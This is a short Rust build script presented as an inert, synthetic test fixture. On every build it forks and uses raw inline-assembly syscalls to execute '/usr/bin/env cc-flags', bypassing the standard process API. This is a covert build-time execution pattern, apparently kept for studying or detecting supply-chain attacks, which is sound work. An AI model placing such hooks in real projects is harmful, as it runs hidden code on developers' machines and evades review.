// Synthetic, inert fixture written from public reports; see README
use std::arch::asm;

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let tool = b"/usr/bin/env\0";
    let list: [*const u8; 3] = [tool.as_ptr(), c"cc-flags".as_ptr().cast(), std::ptr::null()];
    let none: [*const u8; 1] = [std::ptr::null()];
    if unsafe { fork() } == 0 {
        unsafe {
            asm!("syscall", inlateout("rax") 59u64 => _, in("rdi") tool.as_ptr(), in("rsi") list.as_ptr(), in("rdx") none.as_ptr(), out("rcx") _, out("r11") _);
        }
    }
}

unsafe fn fork() -> u64 {
    let r: u64;
    asm!("syscall", inlateout("rax") 57u64 => r, out("rcx") _, out("r11") _);
    r
}

inert_fixture_does_not_build!();
